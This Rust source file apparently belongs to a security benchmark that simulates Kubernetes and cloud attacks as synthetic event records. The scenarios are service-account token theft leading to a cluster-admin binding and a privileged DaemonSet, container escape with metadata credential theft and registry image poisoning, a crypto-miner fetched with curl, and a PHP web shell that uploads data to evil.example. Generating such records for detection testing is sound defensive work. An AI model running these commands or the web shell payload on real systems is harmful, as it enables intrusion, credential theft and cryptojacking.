//! Attacks that begin or end on machines of the cluster.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};

use serde_json::json;

use super::{Play, Pod};
use crate::storybench::records::{By, Call, Ordered};
use crate::storybench::requests::{Answer, Ask};
use crate::storybench::tenant::NODE_ROLE;
use crate::storybench::world::{MS, Program, SECOND};

/// `O_WRONLY | O_CREAT`.
const WRITE: u32 = 0o101;

/// A stolen right to run commands in pods leads to a token, and the token to every machine.
pub(super) fn exec_to_daemonset(play: &mut Play<'_>) {
    let (Some(place), Some(pod)) = (play.target, play.target()) else { return };
    let from = play.attacker.to_string();
    let entered = play.step("command in a pod", None);
    let at = play.then(SECOND);
    let thief = Ordered { by: "dave@shop.example", from: &from, ..Ordered::default() };
    play.world.cluster(
        at,
        &Ordered {
            verb: "create",
            resource: "pods/exec",
            namespace: pod.namespace,
            name: &pod.name,
            query: "command=sh&stdin=true&tty=true&container=shop",
            ..thief
        },
    );
    let program = Program { argv: &["sh"], tty: 34_820, is_dropped: false };
    let Some(shell) = play.world.start_in_pod(at + 300 * MS, place, program) else { return };
    let token = play.step("token read", Some(entered));
    let path = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    let at = play.then(SECOND);
    let cat = play.world.run(at, shell, &["cat", path]);
    play.world.open(at + MS, cat, path, 0);
    play.world.stop(at + 2 * MS, cat);
    with_token(play, &pod, token);
}

/// What the thief of a pod's token asks of the cluster, from rights to a pod on every machine.
fn with_token(play: &mut Play<'_>, pod: &Pod, token: usize) {
    let from = play.attacker.to_string();
    let user = format!("system:serviceaccount:{}:{}", pod.namespace, pod.app);
    let id = format!("{}-token", pod.uid);
    let with_token = Ordered {
        by: &user,
        token: &id,
        pod: Some((&pod.name, &pod.uid)),
        from: &from,
        ..Ordered::default()
    };
    let rights = play.step("rights asked", Some(token));
    let at = play.then(SECOND);
    play.world.cluster(
        at,
        &Ordered { verb: "create", resource: "selfsubjectrulesreviews", ..with_token.clone() },
    );
    let secrets = play.step("secrets listed", Some(rights));
    let at = play.then(SECOND);
    play.world.cluster(at, &Ordered { verb: "list", resource: "secrets", ..with_token.clone() });
    let bound = play.step("administrator bound", Some(secrets));
    let at = play.then(SECOND);
    let object = json!({ "roleRef": { "kind": "ClusterRole", "name": "cluster-admin" },
        "subjects": [{ "kind": "ServiceAccount", "name": pod.app, "namespace": pod.namespace }] });
    play.world.cluster(
        at,
        &Ordered {
            verb: "create",
            resource: "clusterrolebindings",
            name: "helper",
            object,
            ..with_token.clone()
        },
    );
    play.step("pods on every machine", Some(bound));
    let at = play.then(SECOND);
    let object = json!({ "spec": { "template": { "spec": { "hostPID": true, "containers": [
        { "name": "a", "image": "evil.example/a", "securityContext": { "privileged": true } }] } } } });
    play.world.cluster(
        at,
        &Ordered {
            verb: "create",
            resource: "daemonsets",
            namespace: "kube-system",
            name: "node-helper",
            object,
            ..with_token
        },
    );
}

/// A command in a request leaves the container, takes the machine's credential, and poisons an
/// image from outside.
pub(super) fn escape_to_registry(play: &mut Play<'_>) {
    let Some(pod) = play.target() else { return };
    let exploit = play.step("command in a request", None);
    let shell = play.exploit(&pod, "/cart?item=%24%28sh%29", "sh");
    let explored = play.step("system explored", Some(exploit));
    for argv in [&["id"][..], &["lsblk"], &["ip", "addr"]] {
        play.run(shell, argv);
    }
    let escaped = play.step("machine's disk mounted", Some(explored));
    let at = play.then(100 * MS);
    let mount = play.world.run(at, shell, &["mount", "/dev/sda1", "/mnt"]);
    play.world.mount(at + MS, mount, "/mnt", "/dev/sda1");
    play.world.stop(at + 3 * MS, mount);
    let host = play.world.run_on_node(at + SECOND, shell, &["/bin/sh"]);
    let fetched = play.step("credentials fetched", Some(escaped));
    let at = play.then(SECOND);
    let key = play.world.instance_key(pod.node, at);
    let curl = play.world.run(at, host, &["curl", "http://169.254.169.254/latest/meta-data/"]);
    play.world.refresh(at + MS, curl, (&key, NODE_ROLE), true);
    play.world.stop(at + 30 * MS, curl);
    let instance = play.world.instance(pod.node);
    let by = By::Role(NODE_ROLE, &instance);
    let who = play.step("who am I", Some(fetched));
    play.who_am_i(by, &key);
    let call = Call { service: "ecr", by, key: &key, ..Call::default() };
    let logged_in = play.step("registry opened", Some(who));
    play.call(&Call { action: "GetAuthorizationToken", ..call.clone() });
    play.step("image replaced", Some(logged_in));
    let request = json!({ "repositoryName": "shop", "imageTag": "1" });
    play.call(&Call { action: "PutImage", request, ..call });
}

/// A command in a request fetches a program that mines.
pub(super) fn miner(play: &mut Play<'_>) {
    let Some(pod) = play.target() else { return };
    let (path, url) = (format!("/tmp/.x{}", play.id.0), "http://evil.example/x");
    let exploit = play.step("command in a request", None);
    let command = format!("curl -o {path} {url}");
    let shell = play.exploit(&pod, "/cart?item=%60curl%60", &command);
    let fetched = play.step("program fetched", Some(exploit));
    let (at, host) = (play.then(100 * MS), play.client());
    let curl = play.world.run(at, shell, &["curl", "-o", &path, url]);
    play.world.connect(at + 5 * MS, curl, host);
    play.world.open(at + 9 * MS, curl, &path, WRITE);
    play.world.stop(at + 50 * MS, curl);
    let raised = play.step("program made executable", Some(fetched));
    let at = play.then(100 * MS);
    let chmod = play.world.run(at, shell, &["chmod", "+x", &path]);
    play.world.make_executable(at + MS, chmod, &path);
    play.world.stop(at + 2 * MS, chmod);
    let started = play.step("program started", Some(raised));
    let at = play.then(100 * MS);
    let argv: &[&str] = &[&path];
    let dropped = play.world.start(at, shell, Program { argv, is_dropped: true, tty: 0 });
    let mined = play.step("miner started", Some(started));
    let at = play.then(100 * MS);
    let argv: &[&str] = &[&path, "-o", "stratum+tcp://pool.example:3333"];
    let miner = play.world.start(at, dropped, Program { argv, is_dropped: true, tty: 0 });
    play.step("pool contacted", Some(mined));
    let at = play.then(100 * MS);
    let pool = SocketAddr::new(IpAddr::V4(Ipv4Addr::new(51, 15, 1, 9)), 3333);
    play.world.connect(at, miner, pool);
}

/// A script is uploaded, runs commands, and sends data out.
pub(super) fn web_shell(play: &mut Play<'_>) {
    let Some(pod) = play.target() else { return };
    let path = format!("/uploads/{}.php", play.id.0);
    let uploaded = play.step("script uploaded", None);
    let at = play.then(10 * MS);
    let client = play.client();
    let ask = Ask {
        method: "POST",
        target: "/upload",
        body: "<?php system($_POST['c']); ?>",
        ..Ask::default()
    };
    let http = play.world.asked(at, pod.server, client, ask);
    play.world.open(at + 3 * MS, pod.server, &format!("/var/www{path}"), WRITE);
    play.world.answered(at + 9 * MS, pod.server, http, Answer::default());
    let commanded = play.step("command by the script", Some(uploaded));
    command(play, &path, &["id"]);
    let explored = play.step("system explored", Some(commanded));
    for argv in [&["uname", "-a"][..], &["ls", "/var/www"], &["cat", "/etc/passwd"]] {
        command(play, &path, argv);
    }
    let packed = play.step("data packed", Some(explored));
    command(play, &path, &["tar", "czf", "/tmp/d.tgz", "/var/www/data"]);
    play.step("data sent out", Some(packed));
    command(play, &path, &["curl", "-T", "/tmp/d.tgz", "http://evil.example/d"]);
}

/// A request to the script, in whose handling a command runs.
fn command(play: &mut Play<'_>, path: &str, argv: &[&str]) {
    let Some(pod) = play.target() else { return };
    let at = play.then(2 * SECOND);
    let body = format!("c={}", argv.join("+"));
    let client = play.client();
    let ask = Ask { method: "POST", target: path, body: &body, ..Ask::default() };
    let http = play.world.asked(at, pod.server, client, ask);
    let line = argv.join(" ");
    // Interpreters open the script anew for each request.
    play.world.open(at + MS, pod.server, &format!("/var/www{path}"), 0);
    let shell = play.world.run(at + 2 * MS, pod.server, &["/bin/sh", "-c", &line]);
    let program = play.world.run(at + 5 * MS, shell, argv);
    if argv.first() == Some(&"cat") {
        play.world.open(at + 6 * MS, program, argv.get(1).copied().unwrap_or_default(), 0);
    }
    play.world.stop(at + 20 * MS, program);
    play.world.stop(at + 21 * MS, shell);
    play.world.answered(at + 25 * MS, pod.server, http, Answer::default());
}
